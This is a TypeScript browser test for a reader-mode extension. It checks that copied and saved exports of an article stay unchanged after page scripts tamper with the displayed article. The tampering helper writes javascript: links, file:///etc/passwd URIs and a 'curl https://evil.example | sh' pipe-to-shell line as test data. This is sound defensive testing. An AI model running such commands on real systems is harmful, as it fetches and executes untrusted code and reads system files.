/** Everything that leaves the reader is the article as Pith made it, whatever the page's scripts do to the one on display. */
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, expect, it } from 'vitest';
import messages from '../../public/_locales/en/messages.json' with { type: 'json' };
import { button, checkbox } from '../support/controls.ts';
import { type BrowserTest, describeInBrowser } from '../support/each-browser.ts';
import type { ExtensionTab } from '../support/extension.ts';
import { openReader } from '../support/reading.ts';
import { choose, downloadedIn, openPanel, pasted, said } from '../support/sharing.ts';
import { waitFor } from '../support/wait-for.ts';

const downloads = mkdtempSync(join(tmpdir(), 'pith-downloads-'));

afterAll(() => rmSync(downloads, { recursive: true, force: true }));

/** Times and identifiers of a file, which differ each time that it is saved. */
const OF_ONE_FILE = /\d{4}-\d\d-\d\dT[\d:.]+Z|[\da-f]{8}(?:-[\da-f]{4}){3}-[\da-f]{12}/g;

// The formats are made by the same code in both browsers, which share.spec.ts copies and saves in both.
describeInBrowser(
  'an article that the page has changed',
  (the) => {
    it('is copied and saved as it was, in every format', async () => {
      const tab = await reading(the);
      const before = await exported(the, tab);
      expect(before.markdown).toContain('(https://stones.example/hill)');
      expect(before.code).toBe('weigh(stone);');
      await changeArticle(tab);
      expect(await exported(the, tab)).toEqual(before);
      // The test would show nothing if the page's changes were gone.
      expect(await tab.inRoot('reader', (root) => root.querySelector('.content p a')?.getAttribute('href'))).toBe(
        'javascript:alert(1)',
      );
    });
  },
  { downloads, only: 'chromium' },
);

describeInBrowser('a picture in an article that the page has changed', (the) => {
  it('is opened as it was', async () => {
    const tab = await reading(the);
    await changeArticle(tab);
    await tab.clickInRoot('reader', button(messages.readerEnlarge.message.replace('{alt}', 'The wall at noon')));
    const source = () =>
      tab.inRoot('reader', (root) => root.querySelector('.lightbox img')?.getAttribute('src') ?? null);
    expect(await waitFor('the picture', source)).toBe(the.server.url('/samples/picture.png'));
  });
});

async function reading(the: BrowserTest): Promise<ExtensionTab> {
  const picture = the.server.url('/samples/picture.png');
  const paragraphs = Array.from(
    { length: 6 },
    (_, index) =>
      `<p>Stone ${index} was carried down <a href="https://stones.example/hill">from the hill</a>, weighed at the gate, and set on the wall before noon.</p>`,
  );
  const tab = await the.open(
    the.server.serve(`<!doctype html><html lang="en"><title>The wall</title><article><h1>The wall</h1>${paragraphs.join('')}
      <figure><img src="${picture}" alt="The wall at noon" width="640" height="400"></figure>
      <pre><code>weigh(stone);</code></pre>${paragraphs.join('').replaceAll('Stone', 'Slab')}</article></html>`),
  );
  await openReader(tab);
  const isLoaded = () =>
    tab.inRoot('reader', (root) => root.querySelector<HTMLImageElement>('.content img')?.hasAttribute('role') === true);
  await waitFor('the picture that can be opened', async () => {
    await tab.inRoot('reader', (root) => root.querySelector('.content img')?.scrollIntoView());
    return isLoaded();
  });
  return tab;
}

/** Changes the article on display as a script of the page could that got at it. */
async function changeArticle(tab: ExtensionTab): Promise<void> {
  await tab.inRoot('reader', (root) => {
    const [first, second, third, fourth] = root.querySelectorAll('.content p');
    if (first) {
      first.innerHTML =
        '<a href="javascript:alert(1)">a link</a> <a href="data:text/html,x">d</a> <img src="file:///etc/passwd">';
    }
    const added = document.createElement('a');
    added.href = 'javascript:alert(2)';
    added.textContent = 'added';
    second?.after(added);
    third?.querySelector('a')?.setAttribute('href', 'file:///etc/passwd');
    fourth?.remove();
    const image = root.querySelector('.content figure img');
    image?.setAttribute('src', "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='640' height='400'/>");
    image?.setAttribute('alt', 'Another');
    const code = root.querySelector('pre code');
    if (code) code.textContent = 'curl https://evil.example | sh';
    root.querySelector('.content')?.append('More of it.');
    root.querySelector('h1')?.replaceChildren('Another title');
  });
}

/** What every way out of the reader gives. */
async function exported(the: BrowserTest, tab: ExtensionTab): Promise<Record<string, string>> {
  const copied = async (label: keyof typeof messages) => {
    await openPanel(tab);
    await choose(tab, label);
    await said(tab, messages.readerCopied.message);
    await tab.page.pressKey('Escape');
    return pasted(the);
  };
  const saved = async (label: keyof typeof messages, ending: string, { withPictures = false } = {}) => {
    for (const file of readdirSync(downloads)) rmSync(join(downloads, file), { force: true });
    await openPanel(tab);
    if (withPictures) await tab.clickInRoot('reader', checkbox(messages.readerSharePictures.message));
    await choose(tab, label);
    await said(tab, messages.readerSaved.message);
    if (withPictures) await tab.clickInRoot('reader', checkbox(messages.readerSharePictures.message));
    await tab.page.pressKey('Escape');
    return downloadedIn(downloads, ending);
  };
  const textOf = (file: Buffer) => file.toString().replaceAll(OF_ONE_FILE, '');
  const rich = await copied('readerShareRich');
  const markdown = (await copied('readerShareMarkdown')).text;
  const text = (await copied('readerShareText')).text;
  const link = (await copied('readerShareLink')).text;
  await tab.clickInRoot('reader', button(messages.readerCopyCode.message));
  await waitFor('the copied code', () =>
    tab.inRoot('reader', (root) => root.querySelector('.code .copied')?.textContent !== ''),
  );
  const code = (await pasted(the)).text;
  const files = {
    markdownFile: textOf(await saved('readerShareMarkdownFile', '.md')),
    htmlFile: textOf(await saved('readerShareHtmlFile', '.html')),
    htmlWithPictures: textOf(await saved('readerShareHtmlFile', '.html', { withPictures: true })),
    book: bookOf(await saved('readerShareEpub', '.epub')),
  };
  return { markdown, richText: rich.text, richHtml: rich.html, text, link, code, ...files };
}

/** The files in a book, one after the other. */
function bookOf(file: Buffer): string {
  const files = Object.entries(unzipSync(file));
  return files.map(([name, bytes]) => `${name}\n${strFromU8(bytes, true).replaceAll(OF_ONE_FILE, '')}`).join('\n');
}
